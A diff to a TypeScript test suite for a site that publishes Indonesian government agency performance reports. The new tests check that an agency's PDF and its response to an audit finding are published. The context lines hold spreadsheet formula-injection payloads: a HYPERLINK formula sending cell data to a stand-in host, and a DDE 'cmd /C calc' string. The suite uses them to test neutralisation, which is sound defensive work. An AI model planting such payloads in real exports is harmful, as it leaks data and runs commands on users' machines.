@@ -28,6 +28,13 @@ const MUATAN = [...new Set(KASUS_BERMUSUHAN.flatMap((k) => (k.muatan ? [k.muatan
 const RUMUS = '=HYPERLINK("https://contoh.invalid/?d="&A1;"klik")';
 const RUMUS_SATUAN = "@SUM(1+1)*cmd|' /C calc'!A0";
 const KONTROL = 'Data: BPS 2022, penanda-terbit-uji';
+const PDF = resolve('test/fixtures/pdf/sintetis.pdf');
+const TANGGAPAN = {
+  temuan: 'dinas-contoh-2022-lkjip-rata-rata-0-tercetak-rata-rata',
+  isi: 'Tanggapan sintetis penanda-tanggapan-uji.',
+  tanggal: '2026-11-20',
+  oleh: 'Sekretaris Dinas',
+};
 
 /** Every published file as text: pages, data, feeds, scripts, and Pagefind's gzipped index and fragments. */
 function isiTerbit(dir: string): Map<string, string> {
@@ -83,7 +90,12 @@ describe('yang dinetralkan (what is neutralised rather than refused)', () => {
       j.anggaran[0].baris[0].nama = RUMUS;
       j.pengukuran.indikator[1].satuan = RUMUS_SATUAN;
       j.catatan = KONTROL;
+      // what an agency adds through the site: its own PDF and a response to a finding (synthetic)
+      j.sumber.berkas_pdf = 'lkjip-2022.pdf';
+      j.pengukuran.lokasi.halaman = 7;
+      j.tanggapan = [TANGGAPAN];
     });
+    cpSync(PDF, join(d, 'content/instansi/dinas-contoh/2022/lkjip-2022.pdf'));
     const draf = KASUS_BERMUSUHAN.find((k) => k.nama.startsWith('draf'))!.files();
     const laporanDraf = JSON.parse(String(draf.find((f) => f.path === P.lkjip)!.isi));
     mkdirSync(join(d, 'content/instansi/dinas-contoh/2023/narasi'), { recursive: true });
@@ -109,6 +121,27 @@ describe('yang dinetralkan (what is neutralised rather than refused)', () => {
     expect(ditemukan(isi, [...MUATAN, 'penanda-narasi-draf-uji'])).toEqual([]);
     expect(existsSync(join(keluar, 'instansi/dinas-contoh/2023'))).toBe(false);
     expect(existsSync(join(keluar, 'instansi/dinas-contoh/2022/index.html'))).toBe(true);
+  });
+
+  it("the agency's PDF is published at its stable path, and the report's paged locator links to its page", () => {
+    expect(readFileSync(join(keluar, 'dokumen/dinas-contoh/2022/lkjip-2022.pdf'))).toEqual(readFileSync(PDF));
+    const laporan = readFileSync(join(keluar, 'instansi/dinas-contoh/2022/index.html'), 'utf8');
+    expect(laporan).toMatch(/href="[^"]*\/dokumen\/dinas-contoh\/2022\/lkjip-2022\.pdf#page=7"/);
+    expect(laporan).toMatch(/href="[^"]*\/dokumen\/dinas-contoh\/2022\/lkjip-2022\.pdf">PDF yang disimpan instansi</);
+  });
+
+  it("the agency's response is beside its finding on the report page and /audit/, and in audit.csv", () => {
+    for (const f of ['instansi/dinas-contoh/2022/index.html', 'audit/index.html']) {
+      const html = readFileSync(join(keluar, f), 'utf8');
+      const baris = html.slice(html.indexOf(`id="${TANGGAPAN.temuan}"`));
+      expect(baris.slice(0, baris.search(/<\/(tr|li)>/)), f).toMatch(
+        /Tanggapan instansi<\/strong> \(Sekretaris Dinas, 20 November 2026\)[\s\S]*penanda-tanggapan-uji/,
+      );
+    }
+    const audit = isi.get(join(keluar, 'data/audit.csv'))!;
+    expect(audit.split('\n').find((b) => b.includes(TANGGAPAN.temuan))).toContain(
+      `${TANGGAPAN.isi},2026-11-20,Sekretaris Dinas`,
+    );
   });
 
   it('no cell of a published CSV is a formula; the names keep their text behind an apostrophe', () => {
